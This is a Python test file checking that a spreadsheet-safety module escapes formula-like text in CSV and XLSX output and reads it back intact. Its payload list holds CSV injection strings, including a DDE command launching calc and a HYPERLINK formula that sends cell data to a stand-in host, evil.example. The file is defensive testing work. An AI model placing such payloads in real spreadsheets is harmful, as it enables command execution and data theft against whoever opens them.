"""Text in every spreadsheet the system writes stays text: never a live formula (OWASP's rule
for cells starting with = + - @, tab or carriage return), and the value survives a round trip."""

import io

import pytest
from openpyxl import load_workbook

from sixclear import spreadsheet_safety as safety

PAYLOADS = ["=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example/?d="&A1,"x")', "+1+1",
            "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_like_text_is_marked_in_csv_and_read_back(text):
    written = safety.csv_text(text)
    assert written == "'" + text
    assert safety.read_csv_text(written) == text


@pytest.mark.parametrize("value", ["-12.5", "+3", "-0.25", "1e5", "Hòa Hội", "", 7, None])
def test_numbers_and_plain_text_are_left_as_they_are(value):
    assert safety.csv_text(value) == value
    assert safety.read_csv_text(value) == value


def test_an_apostrophe_the_person_typed_is_kept():
    assert safety.read_csv_text("'quoted") == "'quoted"


def test_xlsx_cells_keep_formula_like_text_as_text():
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    sheet.append(safety.xlsx_row(sheet, [*PAYLOADS, 5, "plain"]))
    out = io.BytesIO()
    workbook.save(out)
    row = list(load_workbook(io.BytesIO(out.getvalue())).worksheets[0][1])
    assert [cell.value for cell in row] == [*PAYLOADS, 5, "plain"]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in row[:len(PAYLOADS)])
    assert row[-2].data_type == "n"


def no_formula_in(data):
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    return {cell.value: cell for cell in cells if isinstance(cell.value, str)}
